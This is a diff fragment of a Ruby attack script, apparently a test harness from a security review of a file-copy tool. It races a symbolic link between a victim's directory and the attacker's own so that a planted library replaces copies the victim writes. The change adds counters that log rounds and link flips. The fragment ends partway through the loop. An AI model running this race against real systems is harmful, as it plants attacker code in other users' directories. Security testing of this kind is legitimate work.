@@ -5,19 +5,24 @@
 # reached through a symbolic link this user can replace, it flips the link
 # between the victim's directory and one of its own, and puts a library of
 # its own in place of every copy the victim writes in its directory, as the
-# third review did. Runs until killed.
+# third review did. Runs until killed, writing to OWN_TARGET/attacks how
+# many rounds it made and how many times it re-pointed the link.
 #   ruby copy_attack.rb LINK VICTIM_TARGET OWN_TARGET OWN_COPIES LIBRARY FILE_NAME
 link, victim_target, own_target, own_copies, library, file_name = ARGV
 evil = File.binread(library)
 taken = {}
 flip = "#{link}.flip"
+rounds = flips = 0
 loop do
+  rounds += 1
+  File.write(File.join(own_target, "attacks"), "#{rounds} #{flips}") if rounds % 50 == 1
   [victim_target, own_target].each do |target|
     File.unlink(flip) if File.symlink?(flip)
     File.symlink(target, flip)
     File.rename(flip, link)
+    flips += 1
   rescue SystemCallError
-    nil # the victim's side of the race, or our own: flip again
+    nil # the victim's side of the race, or a link this user may not touch
   end
   Dir.children(own_copies).each do |name|
     next if taken[name] || !name.start_with?("libfast_random-")
